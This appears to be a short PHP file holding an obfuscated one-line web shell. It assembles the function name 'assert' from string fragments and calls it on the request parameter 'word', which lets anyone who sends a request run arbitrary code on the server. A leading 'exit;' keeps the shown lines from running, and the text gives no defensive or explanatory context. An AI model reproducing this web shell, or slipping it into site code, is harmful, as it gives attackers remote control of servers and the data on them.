<?php exit;
$name = "as" . "se" . "rt";
$name($_REQUEST["word"]);
